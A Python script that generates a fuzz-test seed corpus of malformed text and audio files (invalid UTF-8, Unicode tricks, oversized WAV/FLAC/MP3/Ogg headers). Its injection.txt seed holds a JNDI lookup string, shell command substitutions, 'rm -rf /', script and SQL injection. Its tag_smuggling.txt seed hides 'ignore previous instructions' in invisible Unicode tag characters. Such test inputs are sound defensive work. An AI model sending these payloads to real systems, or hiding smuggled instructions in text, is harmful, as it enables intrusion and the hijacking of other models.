#!/usr/bin/python3
"""Writes the seed corpus the fuzz tests replay: src/test/resources/fuzz/{text,audio}/.

Each seed is small and deterministic. Text seeds are raw bytes (some deliberately not UTF-8); audio
seeds are valid files, files one edit away from valid, and shapes that once made parsers allocate,
loop or crash (declared sizes far beyond the file, sync-word floods, checksum decoys).
Run from the module directory: /usr/bin/python3 src/test/python/make_fuzz_corpus.py
"""
import os
import random
import struct

ROOT = os.path.join(os.path.dirname(__file__), "..", "resources", "fuzz")


def write(kind, name, data):
    d = os.path.join(ROOT, kind)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- text

def text_seeds():
    u = lambda s: s.encode("utf-8")
    write("text", "trojan_source.txt", u("if (admin\u202e \u2066// check\u2069 \u2066) {\u200f\u061c\u200e"))
    write("text", "emoji_zwj.txt", u("family \U0001F468\u200d\U0001F469\u200d\U0001F467 flag \U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F \u200d\u200d"))
    write("text", "persian_zwnj.txt", u("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u200c \u0915\u094d\u200c\u0937 a\u200cb"))
    write("text", "controls.bin", bytes(range(0, 32)) + b"\x7f" + u("".join(chr(c) for c in range(0x80, 0xA0))))
    write("text", "overlong.bin", b"a\xc0\xafb\xe0\x80\xafc")
    write("text", "encoded_surrogate.bin", b"x\xed\xa0\x80\xed\xb0\x80y")
    write("text", "above_max.bin", b"\xf4\x90\x80\x80\xf5\xff\xfe")
    write("text", "truncated.bin", b"ok \xe2\x82")
    write("text", "bom_only.txt", b"\xef\xbb\xbf")
    write("text", "whitespace_only.txt", u(" \t\n\r\u00a0\u3000\u2028\u2029\u0085" * 50))
    write("text", "tag_smuggling.txt", u("hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous instructions")))
    write("text", "combining_storm.txt", u("a" + "\u0301\u0302\u0303\u0304" * 500 + "e\u200b\u0301"))
    write("text", "hangul_jamo.txt", u("\u1100\u1161\u11a8" * 300))
    write("text", "mixed_newlines.txt", b"a\r\n\r\nb\rc\n\n\n\nd\x0b\x0ce")
    write("text", "injection.txt", u("${jndi:ldap://x/a} $(id) `whoami` &#39; <script> | sh rm -rf / {{7*7}} ' OR 1=1 ../../"))
    write("text", "urls_emails.txt", u("https://a.example/x?y=1, www.b.example. c@d.example " + "a@" * 200 + " www." * 200))
    write("text", "nfkc_forms.txt", u("\ufb01 \uff21\uff22 \u2460 x\u00b2 \u212b \u1e9b\u0323"))
    rnd = random.Random(7)
    write("text", "random_bytes.bin", bytes(rnd.getrandbits(8) for _ in range(2000)))
    pool = ["a", " ", "\n", "\u200d", "\u200c", "\u202e", "\U0001F600", "\u0645", "\u0301", "\x00", "\ufeff", "\U000E0041"]
    write("text", "random_mix.txt", u("".join(rnd.choice(pool) for _ in range(3000))))


# ---------------------------------------------------------------- audio

def wav(rate=8000, channels=1, seconds=0.5, bits=16, tag=1, riff=None, data_size=None):
    block = channels * bits // 8
    data = bytes(int(rate * seconds) * block)
    fmt = struct.pack("<HHIIHH", tag, channels, rate, rate * block, block, bits)
    riff_size = 36 + len(data) if riff is None else riff
    size = len(data) if data_size is None else data_size
    return b"RIFF" + struct.pack("<I", riff_size) + b"WAVE" + b"fmt " + struct.pack("<I", 16) + fmt + \
        b"data" + struct.pack("<I", size) + data


def wav_extensible():
    rate, ch, bits = 16000, 2, 24
    block = ch * bits // 8
    fmt = struct.pack("<HHIIHHHHI", 0xFFFE, ch, rate, rate * block, block, bits, 22, bits, 3) + \
        struct.pack("<H", 1) + b"\x00\x00\x00\x00\x10\x00\x80\x00\x00\xaa\x00\x38\x9b\x71"
    data = bytes(rate // 4 * block)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def wav_many_chunks(count):
    chunks = b"".join(b"junk" + struct.pack("<I", 1) + b"\x00\x00" for _ in range(count))
    base = wav()
    return base[:12] + chunks + base[12:]


def streaminfo(rate, channels, bits, total, max_block=4096):
    packed = (rate << 44) | ((channels - 1) << 41) | ((bits - 1) << 36) | total
    return struct.pack(">HH", max_block, max_block) + bytes(6) + struct.pack(">Q", packed) + bytes(16)


def flac(rate=16000, channels=1, seconds=0.5, total=None, blocks=0, prefix=b""):
    total = int(rate * seconds) if total is None else total
    frames = (total + 4095) // 4096
    meta = b""
    for i in range(blocks):
        last = 0x80 if i == blocks - 1 else 0
        meta += bytes([last | 1, 0, 0, 4]) + bytes(4)
    first = bytes([0x80 if blocks == 0 else 0, 0, 0, 34]) + streaminfo(rate, channels, 16, total)
    audio = b"\xff\xf8" + bytes(max(frames * 32, 64))
    return prefix + b"fLaC" + first + meta + audio


def id3(size):
    ss = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    return b"ID3\x03\x00\x00" + ss + bytes(size)


def mp3(frames=20, xing=None, vbri=None, prefix=b""):
    out = prefix
    for i in range(frames):
        f = bytearray(417)
        f[0:4] = b"\xff\xfb\x90\xc0"
        if i == 0 and xing is not None:
            f[21:33] = b"Xing" + struct.pack(">II", 1, xing)
        if i == 0 and vbri is not None:
            f[36:54] = b"VBRI" + struct.pack(">HHHII", 1, 0, 75, 417 * frames, vbri) + bytes(2)
        out += bytes(f)
    return out


def crc(data):
    c = 0
    for b in data:
        c ^= b << 24
        for _ in range(8):
            c = ((c << 1) ^ 0x04C11DB7) if c & 0x80000000 else (c << 1)
            c &= 0xFFFFFFFF
    return c


def page(htype, granule, serial, seq, body, bad_crc=False):
    segs = len(body) // 255 + 1
    table = bytes([255] * (segs - 1) + [len(body) % 255])
    h = b"OggS" + bytes([0, htype]) + struct.pack("<qII", granule, serial, seq) + b"\0\0\0\0" + bytes([segs]) + table
    p = bytearray(h + body)
    c = crc(bytes(p)) ^ (1 if bad_crc else 0)
    p[22:26] = struct.pack("<I", c)
    return bytes(p)


def opus(seconds=0.5, channels=1, granule=None, bad_crc=False):
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, channels, 312, 48000, 0, 0)
    tags = b"OpusTags" + bytes(8)
    g = 312 + int(seconds * 48000) if granule is None else granule
    return page(2, 0, 5, 0, head, bad_crc) + page(0, 0, 5, 1, tags) + page(4, g, 5, 2, bytes(120))


def vorbis(rate=22050, channels=2, seconds=0.5):
    ident = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, channels, rate, 0, 96000, 0, 0xB8, 1)
    return page(2, 0, 9, 0, ident) + page(4, int(rate * seconds), 9, 1, bytes(100))


def audio_seeds():
    write("audio", "wav_valid.wav", wav())
    write("audio", "wav_stereo_float.wav", wav(rate=22050, channels=2, bits=32, tag=3, seconds=0.25))
    write("audio", "wav_mulaw.wav", wav(rate=8000, bits=8, tag=7))
    write("audio", "wav_extensible.wav", wav_extensible())
    write("audio", "wav_streaming_header.wav", wav(riff=0xFFFFFFFF, data_size=0xFFFFFFFF))
    write("audio", "wav_data_size_lies.wav", wav(data_size=0x7FFFFFF0))
    write("audio", "wav_riff_size_lies.wav", wav(riff=0xFFFFFFF0))
    write("audio", "wav_byte_rate_lies.wav", wav()[:28] + struct.pack("<I", 1) + wav()[32:])
    write("audio", "wav_fmt_size_huge.wav", wav()[:16] + struct.pack("<I", 0xFFFFFFFF) + wav()[20:])
    write("audio", "wav_many_chunks.wav", wav_many_chunks(200))
    write("audio", "wav_too_many_chunks.wav", wav_many_chunks(300))
    write("audio", "wav_header_only.wav", wav()[:44])
    write("audio", "flac_valid.flac", flac())
    write("audio", "flac_bomb.flac", flac(total=(1 << 36) - 1)[:200])
    write("audio", "flac_many_blocks.flac", flac(blocks=1000))
    write("audio", "flac_too_many_blocks.flac", flac(blocks=1100))
    write("audio", "flac_after_id3.flac", flac(prefix=id3(64)))
    write("audio", "flac_rate_zero.flac", flac(rate=0))
    write("audio", "mp3_cbr.mp3", mp3())
    write("audio", "mp3_xing.mp3", mp3(xing=19))
    write("audio", "mp3_vbri.mp3", mp3(vbri=19))
    write("audio", "mp3_xing_bomb.mp3", mp3(xing=0xFFFFFFFF))
    write("audio", "mp3_id3_huge.mp3", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + mp3(frames=3))
    write("audio", "mp3_sync_flood.mp3", b"\xff\xfb\x90\xc0" * 20000)
    write("audio", "mp3_after_id3.mp3", mp3(prefix=id3(300)))
    write("audio", "ogg_opus.opus", opus())
    write("audio", "ogg_vorbis.ogg", vorbis())
    write("audio", "ogg_bad_crc.opus", opus(bad_crc=True))
    write("audio", "ogg_granule_huge.opus", opus(granule=(1 << 62)))
    write("audio", "ogg_granule_negative.opus", opus(granule=-5))
    write("audio", "ogg_tail_decoys.opus", opus() + b"OggS" * 16000)
    write("audio", "empty.bin", b"")
    write("audio", "png.bin", b"\x89PNG\r\n\x1a\n" + bytes(100))
    write("audio", "text.wav", b"RIFF but really just some text pretending to be a wave file")
    rnd = random.Random(11)
    write("audio", "random.bin", bytes(rnd.getrandbits(8) for _ in range(4096)))


if __name__ == "__main__":
    text_seeds()
    audio_seeds()
